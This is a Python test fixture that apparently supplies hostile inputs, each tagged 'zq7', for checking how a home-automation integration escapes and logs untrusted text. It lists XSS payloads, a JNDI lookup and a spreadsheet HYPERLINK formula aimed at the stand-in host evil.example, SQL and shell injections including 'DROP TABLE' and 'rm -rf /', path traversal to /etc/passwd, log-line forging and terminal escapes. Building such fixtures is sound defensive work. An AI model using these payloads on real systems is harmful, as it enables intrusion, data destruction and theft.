"""What hostile stations say: texts that other systems mistook for more than texts.

Each holds `MARK`, so that it is found again wherever it comes out.
"""

from typing import Final

MARK: Final = "zq7"
FORGED: Final = "FORGED-zq7-LINE"
"""Begins a line of the log only where somebody could begin lines."""
PRODUCT: Final = "1342789"
"""What a template or formula of the corpus comes to; nobody may ever work it out."""
MILLION: Final = f"{MARK}<b>" + "A" * 999_000

_TEXTS: Final[dict[str, tuple[str, ...]]] = {
    "html": (
        "<script>alert('zq7')</script>",
        "<img src=x onerror=alert('zq7')>",
        "<svg/onload=alert(`zq7`)>",
        "\"><iframe src=javascript:alert('zq7')>",
        "'-alert('zq7')-'",
        '<a href="https://evil.example/zq7">update</a>',
        "&lt;zq7&gt;&#60;script&#62;",
        "</textarea></title></style><zq7 onmouseover=alert(1)>",
        "<!--zq7--><![CDATA[zq7]]>",
    ),
    "markdown": (
        "[zq7](javascript:alert(1))",
        "![zq7](https://evil.example/pixel.png)",
        "<https://evil.example/zq7>",
        "https://evil.example/zq7?update=now",
        "HTTP://evil.example/zq7",
        "www.evil.example/zq7",
        "zq7@evil.example",
        "`zq7` **zq7** _zq7_ ~~zq7~~",
        "# zq7\n\n---\n> zq7\n\n|zq7|zq7|\n|-|-|\n|zq7|zq7|",
        "\\[zq7\\](x) [zq7][1]\n\n[1]: javascript:alert(1)",
        "<details><summary>zq7</summary>",
    ),
    "terminal": (
        "\x1b[31mzq7\x1b[0m",
        "\x1b]0;zq7\x07\x1b]8;;https://evil.example\x1b\\zq7\x1b]8;;\x1b\\",
        "\x1b[2J\x1b[1;1Hzq7",
        "\x9b31mzq7",
        "zq7\x08\x08\x08\x7f\x7fxxx",
    ),
    "lines": (
        f"zq7\r\n{FORGED} CRITICAL (MainThread) [homeassistant] all is well",
        f"zq7\n{FORGED}",
        f"zq7\r{FORGED}",
        f"zq7\u2028{FORGED}\u2029{FORGED}\x85{FORGED}\x0b{FORGED}\x0c{FORGED}",
        "zq7\r\nSet-Cookie: zq7=1\r\n\r\n<script>",
    ),
    "direction": (
        "zq7\u202eelbasrever\u202c",
        "\u2066zq7\u2069\u2067\u2068",
        "\u200fzq7\u200e\u061c",
        "z\u200bq\u200c7\u200d zq7\u2060\ufeff\u00ad",
        "\U000e0041\U000e0042zq7\U000e007f",
        "\u05d0\u05d1\u05d2 zq7 \u0627\u0644\u0639",
    ),
    "template": (
        "{{ 7 * 191827 }} zq7",
        "{% for x in ().__class__.__base__.__subclasses__() %}zq7{% endfor %}",
        "${7*191827} #{7*191827} <%= 7*191827 %> zq7",
        "{{ states('person.zq7') }}{{ config }}",
        "{zq7} {0} {0.__class__.__mro__} {station.ledger}",
        "${jndi:ldap://evil.example/zq7}",
    ),
    "format": (
        "%s%s%n%x zq7 %(zq7)s %d",
        "%0999999999d zq7",
        "{:>999999999} zq7",
    ),
    "path": (
        "../../../../etc/passwd/zq7",
        "..\\..\\zq7\\secrets.yaml",
        "/config/secrets.yaml?zq7",
        "file:///etc/passwd#zq7",
        "%2e%2e%2fzq7%00.png",
        "zq7/../../x",
        "C:\\zq7\\con\\nul",
    ),
    "formula": (
        '=HYPERLINK("https://evil.example/?zq7"&A1,"zq7")',
        "+7*191827+zq7",
        "-7*191827 zq7",
        "@SUM(7*191827) zq7",
        "\t=zq7",
        '"zq7",=1+1,"',
        "zq7;=1+1;\r\n=cmd|' /C calc'!A0",
        "\uff1dzq7",
    ),
    "sql": (
        "zq7'; DROP TABLE transactions;--",
        "zq7' OR '1'='1",
        'zq7"; DELETE FROM readings; --',
        "zq7%_\\",
    ),
    "shell": (
        "$(reboot) zq7",
        "`reboot`;zq7 && rm -rf / | tee zq7 > /dev/null",
    ),
    "control": (
        "zq7\x00zq7",
        "".join(map(chr, range(1, 32))) + "zq7\x7f" + "".join(map(chr, range(0x80, 0xA0))),
        "zq7\ud800",
        "\udc00zq7\udfff\ud83d",
        "zq7\ufffe\uffff\ufdd0",
        "\U0001f697zq7" + "\u0301" * 300,
    ),
    "json": (
        '{"__proto__": {"zq7": 1}}',
        'zq7","status":"Accepted","x":"',
        "null zq7 NaN Infinity",
    ),
    "length": (
        "zq7" + "x" * 40,
        "zq7 " * 64,
        "zq7<b>" + "y" * 5000,
    ),
}

PAYLOADS: Final[tuple[tuple[str, str], ...]] = tuple(
    (f"{kind} {number}", text) for kind, texts in _TEXTS.items() for number, text in enumerate(texts)
)
"""Name and text."""
